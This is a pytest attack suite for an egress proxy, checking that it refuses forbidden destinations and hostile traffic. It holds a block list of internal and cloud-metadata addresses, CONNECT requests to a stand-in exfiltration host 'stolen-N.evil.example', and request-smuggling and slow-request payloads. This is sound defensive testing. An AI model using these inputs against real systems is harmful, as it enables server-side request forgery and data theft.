"""Attack: make the proxy reach, or stay at, a place that was not judged: by TLS names, addresses, DNS, frames, slowness."""

from __future__ import annotations

import asyncio
import contextlib
import os
import ssl
import struct
from pathlib import Path

import pytest

from carapax.core.terms.egress import Allowance, Binding, Hop, Verdict
from carapax.core.terms.signal import SignalKind
from tests.attacks.egress_requests import CANARY
from tests.fakes.egress_room import SECRET, Client, Room, get, trust
from tests.fakes.gate import FakeGate
from tests.fakes.web_server import Got, Reply, WebServer, echo

FREE = "allowed.example"
SOCKET = (
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)


@pytest.mark.parametrize("sni", ["bound.example", "evil.example", "allowed.example.evil.example"])
def test_another_server_name_than_the_tunnels_is_refused(tmp_path: Path, sni: str) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                address = await room.listener(way)
                with pytest.raises((ssl.SSLError, OSError)):
                    await room.tunnel(address, way, FREE, server.port, sni=sni)
                assert room.network() == []
                traffic = await room.keeper.close_way(way)
                assert traffic.refused == 1

    asyncio.run(run())


def test_no_server_name_at_all_is_refused_for_a_name(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                context = trust(way)
                context.check_hostname = False
                with pytest.raises((ssl.SSLError, OSError)):
                    await room.tunnel(
                        await room.listener(way), way, FREE, server.port, sni="127.0.0.1", context=context
                    )
                assert room.network() == []

    asyncio.run(run())


def test_plain_http_in_a_tunnel_gets_nowhere(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.dial(await room.listener(way))
                await client.send(f"CONNECT {FREE}:{server.port} HTTP/1.1\r\n\r\n".encode())
                assert b" 200 " in await client.head()
                await client.send(get("/", f"{FREE}:{server.port}"))
                await client.end()
                assert server.connections == 0

    asyncio.run(run())


FORBIDDEN = (
    "127.0.0.1", "169.254.169.254", "10.1.2.3", "100.100.100.200", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "fd00:ec2::254",
    "0.0.0.0", "192.168.1.1", "198.51.100.7", "224.0.0.1", "2002:7f00:1::", "fe80::1%lo", "168.63.129.16", "not an address",
    "93.184.216.34 127.0.0.1", "::127.0.0.1", "2001::1", "ff02::1", "255.255.255.255", "172.16.0.1", "169.254.170.2", "64:ff9b:1::1",
)  # fmt: skip


def test_a_name_that_leads_to_a_forbidden_address_is_not_dialled(tmp_path: Path) -> None:
    names = {f"name-{n}.example": [text.split() if "." in text else [text]] for n, text in enumerate(FORBIDDEN)}
    names["name-15.example"] = [["not an address"]]

    async def run() -> None:
        with WebServer() as server:
            gate = FakeGate(hosts=tuple(names), pinned=(), allowance=Allowance(hosts=100))
            async with Room(tmp_path, server, gate, names=names) as room:
                way = await room.way()
                address = await room.listener(way)
                for host in names:
                    client = await room.tunnel(address, way, host, server.port)
                    status, headers, _ = await client.ask(get("/", f"{host}:{server.port}"))
                    assert (status, headers["carapax-refused"]) == (403, "egress.address"), names[host]
                    client.close()
                assert room.network() == [f"look-up {host}" for host in names]

    asyncio.run(run())


def test_a_pin_allows_its_network_and_no_other(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            gate = FakeGate(pinned=("127.0.0.1/32",))
            async with Room(
                tmp_path, server, gate, names={FREE: [["127.0.0.1"]], "bound.example": [["127.0.0.2"]]}
            ) as room:
                way = await room.way()
                address = await room.listener(way)
                good = await room.tunnel(address, way, FREE, server.port)
                assert (await good.ask(get("/", f"{FREE}:{server.port}")))[0] == 200
                bad = await room.tunnel(address, way, "bound.example", server.port)
                assert (await bad.ask(get("/", f"bound.example:{server.port}")))[0] == 403
                # The pin is taken back while the connection is open: it is not used again.
                gate.pinned = ()
                assert (await good.ask(get("/", f"{FREE}:{server.port}")))[0] == 403
                assert len(server.requests) == 1

    asyncio.run(run())


def test_a_name_is_looked_up_once_so_a_second_answer_changes_nothing(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            names = {FREE: [["127.0.0.1"], ["127.0.0.9"], ["10.0.0.1"]]}
            async with Room(tmp_path, server, names=names) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                for path in ("/1", "/2", "/3"):
                    assert (await client.ask(get(path, f"{FREE}:{server.port}")))[0] == 200
                assert room.network() == [f"look-up {FREE}", "dial 127.0.0.1"]

    asyncio.run(run())


def test_names_full_of_secrets_are_never_asked_of_dns(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                address = await room.listener(way)
                for number in range(20):
                    client = await room.dial(address)
                    status, _, _ = await client.ask(
                        f"CONNECT stolen-{number}.evil.example:443 HTTP/1.1\r\n\r\n".encode()
                    )
                    assert status == 403
                assert room.network() == []

    asyncio.run(run())


def test_an_opaque_tunnel_passes_bytes_and_checks_the_server_name(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server, FakeGate(opaque=True)) as room:
                way = await room.way()
                address = await room.listener(way)
                upstream = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                upstream.load_verify_locations(cadata=server.authority.pem)
                client = await room.tunnel(address, way, FREE, server.port, context=upstream)
                status, _, _ = await client.ask(get("/", "whatever.example"))
                assert status == 200
                with pytest.raises((ssl.SSLError, OSError)):
                    await room.tunnel(address, way, FREE, server.port, context=upstream, sni="bound.example")
                assert len(server.requests) == 1
                client.close()
                traffic = await room.keeper.close_way(way)
                assert traffic.bytes_up > 200
                assert traffic.bytes_down > 200
                assert traffic.refused == 1

    asyncio.run(run())


def test_an_opaque_tunnel_is_bounded(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer(tls=False) as server:
            gate = FakeGate(opaque=True, allowance=Allowance(bytes_up=1_000))
            async with Room(tmp_path, server, gate) as room:
                way = await room.way()
                client = await room.dial(await room.listener(way))
                await client.send(f"CONNECT {FREE}:{server.port} HTTP/1.1\r\n\r\n".encode())
                assert b" 200 " in await client.head()
                assert (await client.ask(get("/", "x", method="POST", body=b"a" * 400)))[0] == 200
                await client.send(get("/", "x", method="POST", body=b"b" * 1_000))
                assert await client.end() == b""
                assert len(server.requests) == 1
                assert b"bbb" not in server.received

    asyncio.run(run())


def masked(payload: bytes, opcode: int = 1) -> bytes:
    key = os.urandom(4)
    size = len(payload)
    lead = (
        bytes([0x80 | opcode, 0x80 | size])
        if size < 126
        else bytes([0x80 | opcode, 0x80 | 126]) + struct.pack(">H", size)
    )
    return lead + key + bytes(octet ^ key[at % 4] for at, octet in enumerate(payload))


async def open_socket(room: Room, host: str, word: str = "") -> Client:
    way = next(iter(room.ways))
    client = await room.tunnel(await room.listener(way), way, host, room.server.port)
    fields = (
        *SOCKET,
        "Sec-WebSocket-Extensions: permessage-deflate",
        *((f"Authorization: Bearer {word}",) if word else ()),
    )
    status, _, _ = await client.ask(get("/ws", f"{host}:{room.server.port}", *fields))
    assert status == 101
    return client


def test_a_websocket_works_and_is_judged_as_one(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                await room.way()
                client = await open_socket(room, FREE)
                for text in (b"hello", b"x" * 3_000):
                    await client.send(masked(text))
                    lead = await client.reader.readexactly(2 if len(text) < 126 else 4)
                    assert await client.reader.readexactly(len(text)) == text, lead
                assert room.gate.hops[-1].websocket
                assert server.requests[0].header("sec-websocket-extensions") is None

    asyncio.run(run())


@pytest.mark.parametrize("pieces", [1, 2, 7])
def test_a_canary_or_a_placeholder_in_a_websocket_cuts_it(tmp_path: Path, pieces: int) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server, bindings=[Binding("service", "bound.example", server.port)]) as room:
                room.keeper.watch_for({"planted": CANARY})
                way = await room.way()
                for text in (CANARY, dict(way.placeholders)["service"]):
                    client = await open_socket(room, FREE)
                    size = -(-len(text) // pieces)
                    for at in range(0, len(text), size):
                        await client.send(masked(text[at : at + size].encode()))
                    await client.end()
                    assert text.encode() not in server.received
                await room.settled()
                kinds = room.gate.kinds()
                assert SignalKind.CANARY_USED in kinds
                assert SignalKind.MISMATCH in kinds

    asyncio.run(run())


def test_a_secret_that_a_websocket_sends_back_is_scrubbed(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server, bindings=[Binding("service", "bound.example", server.port)]) as room:
                way = await room.way()
                client = await open_socket(room, "bound.example", dict(way.placeholders)["service"])
                await client.send(masked(SECRET.encode()))
                await client.reader.readexactly(2)
                assert await client.reader.readexactly(len(SECRET)) == b"*" * len(SECRET)
                assert server.requests[0].header("authorization") == f"Bearer {SECRET}"

    asyncio.run(run())


@pytest.mark.parametrize("frame", [b"\x81\x05hello", b"\xc1\x85aaaahello", b"\xf1\x80aaaa"])
def test_frames_that_cannot_be_looked_into_cut_the_websocket(tmp_path: Path, frame: bytes) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                await room.way()
                client = await open_socket(room, FREE)
                await client.send(frame)
                await client.end()
                assert b"hello" not in server.received

    asyncio.run(run())


def test_a_websocket_needs_a_verdict_of_its_own(tmp_path: Path) -> None:
    async def run() -> None:
        def decide(hop: Hop) -> Verdict:
            return Verdict(not hop.websocket, "egress.sockets", "No sockets.", pinned=("127.0.0.0/8",))

        with WebServer() as server:
            async with Room(tmp_path, server, FakeGate(decide=decide)) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                status, headers, _ = await client.ask(get("/ws", f"{FREE}:{server.port}", *SOCKET))
                assert (status, headers["carapax-refused"]) == (403, "egress.sockets")
                assert server.connections == 0

    asyncio.run(run())


@pytest.mark.parametrize("stage", ["head", "body", "chunk"])
def test_a_slow_request_is_ended(tmp_path: Path, stage: str) -> None:
    starts = {
        "head": "GET / HTTP/1.1\r\nHost: {h}\r\n",
        "body": "POST / HTTP/1.1\r\nHost: {h}\r\nContent-Length: 10\r\n\r\nabc",
        "chunk": "POST / HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab",
    }

    async def run() -> None:
        with WebServer() as server:
            patience = {"head_s": 0.5, "stall_s": 0.5, "body_s": 1.0}
            async with Room(tmp_path, server, patience=patience) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                status, headers, _ = await client.ask(starts[stage].replace("{h}", f"{FREE}:{server.port}").encode())
                assert (status, headers["carapax-refused"]) == (408, "egress.slow")
                assert server.connections == 0

    asyncio.run(run())


def test_a_door_that_is_only_opened_is_closed_after_a_while(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server, patience={"head_s": 0.3}) as room:
                way = await room.way()
                client = await room.dial(await room.listener(way))
                assert await client.end() == b""

    asyncio.run(run())


@pytest.mark.parametrize(
    "raw",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX: a\nb\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: evil\r\nConnection: upgrade\r\n\r\n",
        b"ICY 200 OK\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"X: 1\r\n" * 300 + b"\r\n",
        b"HTTP/1.1 103 Early\r\n\r\n" * 20,
    ],
)
def test_an_answer_that_reads_in_two_ways_is_not_passed_on(tmp_path: Path, raw: bytes) -> None:
    async def run() -> None:
        with WebServer(lambda _: Reply(raw=raw, cut=True)) as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                status, headers, _ = await client.ask(get("/", f"{FREE}:{server.port}"))
                assert (status, headers["carapax-refused"]) == (502, "egress.answer")

    asyncio.run(run())


def test_what_a_service_sends_unasked_answers_nothing(tmp_path: Path) -> None:
    async def run() -> None:
        first = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nfirst"
        poison = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\npoison"

        def answer(got: Got) -> Reply:
            return Reply(raw=first + poison) if got.path == "/1" else Reply(b"honest")

        with WebServer(answer) as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                host = f"{FREE}:{server.port}"
                assert (await client.ask(get("/1", host)))[2] == b"first"
                assert (await client.ask(get("/2", host)))[2] == b"honest"
                assert server.connections == 2

    asyncio.run(run())


def test_many_bodies_that_never_end_do_not_fill_the_memory(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            gate = FakeGate(allowance=Allowance(bytes_up=1 << 30, held_bytes=8 << 20))
            async with Room(tmp_path, server, gate) as room:
                way = await room.way()
                address = await room.listener(way)
                host = f"{FREE}:{server.port}"
                begun = b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: 9000000\r\n\r\n" % host.encode()
                clients = [await room.tunnel(address, way, FREE, server.port) for _ in range(3)]
                answers = [asyncio.create_task(client.answer()) for client in clients]
                for client in clients:
                    with contextlib.suppress(OSError):
                        await client.send(begun + b"x" * 7_000_000)
                done, waiting = await asyncio.wait(answers, timeout=20, return_when=asyncio.FIRST_COMPLETED)
                status, headers, body = done.pop().result()
                assert (status, headers["carapax-refused"]) == (403, "egress.budget")
                assert b"hold" in body
                for task in waiting:
                    task.cancel()
                await asyncio.gather(*waiting, return_exceptions=True)
                for client in clients:
                    client.close()
                fresh = await room.tunnel(address, way, FREE, server.port)
                _, _, body = await fresh.ask(get("/", host, method="POST", body=b"y" * 7_000_000))
                assert body.endswith(b"yyy")

    asyncio.run(run())


def test_half_an_answer_never_looks_whole(tmp_path: Path) -> None:
    async def run() -> None:
        raw = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nonly this"
        with WebServer(lambda _: Reply(raw=raw, cut=True)) as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                with pytest.raises((asyncio.IncompleteReadError, OSError)):
                    await client.ask(get("/", f"{FREE}:{server.port}"))

    asyncio.run(run())


def test_pipelined_requests_are_answered_in_order_and_a_smuggled_one_is_seen_as_its_own(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer(echo) as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                host = f"{FREE}:{server.port}"
                await client.send(get("/1", host) + get("/2", host, method="POST", body=b"body") + get("/3", host))
                bodies = [(await client.answer())[2] for _ in range(3)]
                assert [body.split(b" ")[1] for body in bodies] == [b"/1", b"/2", b"/3"]
                assert [hop.path for hop in room.gate.hops[1:]] == ["/1", "/2", "/3"]

    asyncio.run(run())


def test_a_request_in_one_byte_pieces_is_the_same_request(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer() as server:
            async with Room(tmp_path, server) as room:
                way = await room.way()
                client = await room.tunnel(await room.listener(way), way, FREE, server.port)
                for octet in get("/slowly", f"{FREE}:{server.port}", method="POST", body=b"abc"):
                    await client.send(bytes([octet]))
                assert (await client.answer())[0] == 200
                assert server.requests[0].body == b"abc"

    asyncio.run(run())


def test_a_large_body_streams_on_and_its_late_placeholder_cuts_it(tmp_path: Path) -> None:
    async def run() -> None:
        with WebServer(lambda got: Reply(str(len(got.body)).encode())) as server:
            async with Room(tmp_path, server, bindings=[Binding("service", "bound.example", server.port)]) as room:
                way = await room.way()
                address = await room.listener(way)
                host = f"{FREE}:{server.port}"
                good = await room.tunnel(address, way, FREE, server.port)
                _, _, body = await good.ask(get("/", host, method="POST", body=b"q" * 3_000_000))
                assert body == b"3000000"
                bad = await room.tunnel(address, way, FREE, server.port)
                late = b"q" * 3_000_000 + dict(way.placeholders)["service"].encode() + b"q" * 100_000
                await bad.send(get("/", host, method="POST", body=late))
                await bad.end()
                await room.settled()
                assert SignalKind.MISMATCH in room.gate.kinds()
                assert dict(way.placeholders)["service"].encode() not in server.received
                assert len(server.requests) == 1

    asyncio.run(run())
